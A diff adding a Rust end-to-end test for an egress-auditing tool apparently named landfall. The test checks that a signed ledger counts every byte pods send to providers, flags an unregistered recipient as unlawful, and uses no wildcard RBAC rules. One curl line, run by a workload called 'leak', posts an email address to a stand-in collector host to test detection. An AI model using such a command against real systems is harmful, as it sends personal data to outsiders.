@@ -1,0 +1,128 @@
+//! The whole way: what leaves the pods is what the ledger holds, to the byte.
+
+use std::{collections::BTreeMap, net::Ipv4Addr, time::Duration};
+
+use landfall_evidence::{Reader, RecordKind};
+use landfall_observation::{Endpoint, Local, decode};
+use landfall_tests::{
+    cluster,
+    story::{Client, Story, StoryError},
+};
+
+const PROVIDERS: [(&str, &str, Ipv4Addr); 3] = [
+    ("openai", "eu.api.openai.com", Ipv4Addr::new(198, 51, 100, 10)),
+    ("twilio", "api.twilio.com", Ipv4Addr::new(198, 51, 101, 10)),
+    ("stranger", "collector.stranger.example", Ipv4Addr::new(203, 0, 113, 10)),
+];
+
+/// IP bytes sent and received, by workload and provider.
+type Sums = BTreeMap<(String, &'static str), (u64, u64)>;
+
+#[tokio::test(flavor = "multi_thread")]
+#[ignore = "cluster story: make e2e"]
+async fn the_ledger_holds_every_byte_that_left_the_pods() {
+    let begun = match Story::begin(&PROVIDERS).await {
+        Err(StoryError::Cluster(error)) => cluster::or_skip(Err(error)),
+        begun => Some(begun.unwrap()),
+    };
+    let Some((story, providers)) = begun else { return };
+    // Each provider is asked by one workload, so that its counters are those of the workload.
+    let clients = [("assistant", "node-eu"), ("messaging", "node-us"), ("leak", "node-us")]
+        .map(|(name, node)| Client::start(&story, name, node).unwrap());
+    for (client, (_, host, _)) in std::iter::zip(&clients, PROVIDERS) {
+        for _ in 0..3 {
+            let send = "head -c 20000 /dev/zero | curl -sk --retry 20 --retry-delay 1 --retry-all-errors --data-binary @-";
+            client.run(&story, &format!("{send} -o /dev/null https://{host}/")).unwrap();
+        }
+    }
+    clients[2].run(&story, "curl -s -d email=jane.roe@example.org -o /dev/null http://collector.stranger.example/").unwrap();
+
+    let expected = || -> Sums {
+        let counted = std::iter::zip(&clients, &providers).zip(PROVIDERS);
+        counted
+            .map(|((client, provider), (name, _, _))| {
+                let counts = provider.counts(&story).unwrap();
+                ((client.name.clone(), name), (counts.ip_in, counts.ip_out))
+            })
+            .collect()
+    };
+    story
+        .wait_for("every byte in the ledger", || {
+            let (expected, held) = (expected(), held(&story));
+            if expected == held { Ok(()) } else { Err(format!("the providers counted {expected:?}, the ledger holds {held:?}")) }
+        })
+        .unwrap();
+    for provider in &providers {
+        let counts = provider.counts(&story).unwrap();
+        assert!(counts.body_in >= 60_000 && counts.ip_in > counts.body_in, "{counts:?}");
+        eprintln!("{}: {counts:?}", provider.name);
+    }
+    judged_and_sealed(&story);
+    nothing_was_forbidden(&story);
+}
+
+/// What was judged says what the law says, and the sums of the judgments are those of the observations.
+fn judged_and_sealed(story: &Story) {
+    let ledger = story.ledger().display().to_string();
+    let outcomes = story
+        .wait_for("judgments", || {
+            let shown = story.landfall(&["ledger", "show", &ledger, "-o", "json"]).map_err(|error| error.to_string())?;
+            let edges = shown.lines().map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap());
+            let outcome = |edge: &serde_json::Value| {
+                let text = |value: &serde_json::Value| value.as_str().unwrap_or_default().to_owned();
+                (text(&edge["recipient"]), text(&edge["verdict"]["outcome"]))
+            };
+            let outcomes: BTreeMap<_, _> = edges.map(|edge| outcome(&edge)).collect();
+            if outcomes.len() >= PROVIDERS.len() { Ok(outcomes) } else { Err(shown) }
+        })
+        .unwrap();
+    eprintln!("{outcomes:?}");
+    assert_eq!(outcomes["unregistered:stranger.example"], "Unlawful");
+    assert!(outcomes.contains_key("openai") && outcomes.contains_key("twilio"), "{outcomes:?}");
+
+    let key = story.ledger().join("public-key.pem").display().to_string();
+    story
+        .wait_for("a sealed segment", || {
+            let verified = story.landfall(&["ledger", "verify", &ledger, "--public-key", &key, "-o", "json"]);
+            let verified = verified.map_err(|error| error.to_string())?;
+            if verified.contains("\"segments\":0") { Err(verified) } else { Ok(()) }
+        })
+        .unwrap();
+}
+
+/// Everything that the system asks of the API server it may ask, and no rule of it is a wildcard.
+fn nothing_was_forbidden(story: &Story) {
+    std::thread::sleep(Duration::from_secs(1));
+    let entries = story.cluster.audit().unwrap();
+    let ours = |user: &str| user.starts_with("system:serviceaccount:landfall-system:landfall-");
+    let asked = entries.iter().filter(|entry| ours(&entry.user)).count();
+    assert!(asked > 20, "{asked}");
+    let forbidden: Vec<_> = entries.iter().filter(|entry| ours(&entry.user) && entry.is_forbidden()).collect();
+    assert!(forbidden.is_empty(), "{forbidden:?}");
+    let roles = story.kubectl(&["get", "clusterroles,roles", "-A", "-o", "json"], "").unwrap();
+    let roles: serde_json::Value = serde_json::from_str(&roles).unwrap();
+    let is_ours = |role: &&serde_json::Value| role["metadata"]["name"].as_str().unwrap().starts_with("landfall-");
+    let ours: Vec<_> = roles["items"].as_array().unwrap().iter().filter(is_ours).collect();
+    assert_eq!(ours.len(), 3);
+    assert!(ours.iter().all(|role| !role["rules"].to_string().contains("\"*\"")), "{ours:?}");
+}
+
+/// The sums of the observations in the ledger.
+fn held(story: &Story) -> Sums {
+    let mut sums = Sums::new();
+    let Ok(records) = Reader::open(&story.ledger()) else { return sums };
+    for record in records.kinds(&[RecordKind::Observation]).map_while(Result::ok) {
+        let observation = decode(&record.body).unwrap();
+        let (Local::Workload(workload), Endpoint::Address { address }) = (&observation.local, &observation.remote) else {
+            continue;
+        };
+        let provider = PROVIDERS.iter().find(|(_, _, at)| address.contains(&std::net::IpAddr::V4(*at)));
+        if let Some((provider, _, _)) = provider {
+            assert_eq!(observation.coverage.frames_dropped, 0);
+            let sum = sums.entry((workload.name.clone(), *provider)).or_default();
+            sum.0 += observation.sent.bytes;
+            sum.1 += observation.received.bytes;
+        }
+    }
+    sums
+}
